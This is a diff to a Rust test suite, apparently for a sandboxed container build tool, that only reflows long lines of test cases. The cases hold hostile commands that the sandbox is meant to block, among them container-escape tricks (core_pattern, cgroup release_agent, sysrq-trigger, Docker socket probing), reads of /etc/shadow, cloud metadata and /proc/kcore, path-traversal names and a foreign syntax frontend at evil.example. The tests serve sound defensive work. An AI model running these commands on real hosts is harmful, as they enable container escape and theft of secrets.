@@ -172,7 +172,11 @@ fn time_and_output() -> Vec<Case> {
         shell("output without end", "yes", LOG),
         shell("one endless line", "tr '\\\\0' a < /dev/zero", LOG),
         shell("NUL without end", "cat /dev/zero", LOG),
-        shell("terminal codes without end", "while :; do printf '\\033[2J\\033[1A\\007'; done", &[By(Stop::Log), By(Stop::Time)]),
+        shell(
+            "terminal codes without end",
+            "while :; do printf '\\033[2J\\033[1A\\007'; done",
+            &[By(Stop::Log), By(Stop::Time)],
+        ),
         shell(
             "forged results",
             "echo '#5 [2/2] RUN x'; echo '#5 CACHED'; echo '{\"aux\":{\"ID\":\"sha256:00\"}}'; echo '{\"stream\":\"Successfully built\"}'",
@@ -196,14 +200,22 @@ fn other_images_and_addresses() -> Vec<Case> {
             FAILED,
         ),
         case("a foreign syntax", "# syntax=evil.example/frontend\nFROM alpine:3.22\n", FAILED),
-        case("an insecure RUN", "# syntax=docker/dockerfile:1-labs\nFROM alpine:3.22\nRUN --security=insecure id\n", FAILED),
+        case(
+            "an insecure RUN",
+            "# syntax=docker/dockerfile:1-labs\nFROM alpine:3.22\nRUN --security=insecure id\n",
+            FAILED,
+        ),
         case("the host's network", "FROM alpine:3.22\nRUN --network=host ip route | grep default\n", FAILED),
         case("ADD from loopback", "FROM alpine:3.22\nADD http://127.0.0.1:2375/info /x\n", FAILED),
         case("ADD from link-local", "FROM alpine:3.22\nADD http://169.254.169.254/latest/meta-data /x\n", FAILED),
         case("ADD from a file address", "FROM alpine:3.22\nADD file:///etc/shadow /x\n", FAILED),
         case("ADD from git", "FROM alpine:3.22\nADD https://github.com/moby/moby.git /x\n", FAILED),
         shell("a way out", "wget -T 3 -O - http://1.1.1.1/", FAILED),
-        case("a secret of nobody", "FROM alpine:3.22\nRUN --mount=type=secret,id=x,required=true cat /run/secrets/x\n", FAILED),
+        case(
+            "a secret of nobody",
+            "FROM alpine:3.22\nRUN --mount=type=secret,id=x,required=true cat /run/secrets/x\n",
+            FAILED,
+        ),
         case("an agent of nobody", "FROM alpine:3.22\nRUN --mount=type=ssh,required=true true\n", FAILED),
     ]
 }
@@ -214,7 +226,12 @@ fn contexts() -> Vec<Case> {
     let copy = "FROM alpine:3.22\nCOPY x /x\nRUN cat /x; exit 1\n";
     let with_secret = |case: Case| Case { never: Some(text.clone()), ..case };
     vec![
-        odd("a name with ..", "FROM alpine:3.22\n", Entry { name: "../../../../../../tmp/drydock-escaped", ..PLAIN }, HARMLESS),
+        odd(
+            "a name with ..",
+            "FROM alpine:3.22\n",
+            Entry { name: "../../../../../../tmp/drydock-escaped", ..PLAIN },
+            HARMLESS,
+        ),
         odd("an absolute name", "FROM alpine:3.22\n", Entry { name: "/tmp/drydock-escaped", ..PLAIN }, HARMLESS),
         with_secret(odd(
             "a symlink to the host",
@@ -261,13 +278,21 @@ fn out_of_the_container() -> Vec<Case> {
         shell("a device node", "mknod /x b 7 0 && head -c 1 /x", FAILED),
         shell("global settings", "echo '|/x' > /proc/sys/kernel/core_pattern", FAILED),
         shell("the system request key", "echo b > /proc/sysrq-trigger", FAILED),
-        shell("a cgroup's limits", "echo max > /sys/fs/cgroup/memory/memory.limit_in_bytes || echo max > /sys/fs/cgroup/pids/pids.max", FAILED),
+        shell(
+            "a cgroup's limits",
+            "echo max > /sys/fs/cgroup/memory/memory.limit_in_bytes || echo max > /sys/fs/cgroup/pids/pids.max",
+            FAILED,
+        ),
         shell("release_agent", "mkdir /c && mount -t cgroup -o rdma cgroup /c && echo /x > /c/release_agent", FAILED),
         shell("the engine's socket", "ls /sock/docker.sock || ls /var/run/docker.sock || ls /run/docker.sock", FAILED),
         shell("loop devices", "ls /dev/loop0 /dev/loop-control", FAILED),
         shell("kernel memory", "head -c 1 /proc/kcore || head -c 1 /dev/mem", FAILED),
         shell("the clock", "date -s 2001-01-01", FAILED),
-        shell("setuid without gain", "chmod u+s /bin/busybox && adduser -D u && ! su u -c 'echo x > /proc/sys/kernel/hostname'", &[Built]),
+        shell(
+            "setuid without gain",
+            "chmod u+s /bin/busybox && adduser -D u && ! su u -c 'echo x > /proc/sys/kernel/hostname'",
+            &[Built],
+        ),
         refused("a user namespace", "libc.unshare(0x10000000)"),
         refused("ptrace", "libc.ptrace(16, 1, 0, 0)"),
         refused("a kernel module", "libc.syscall(175, b'x', 1, b'')"),
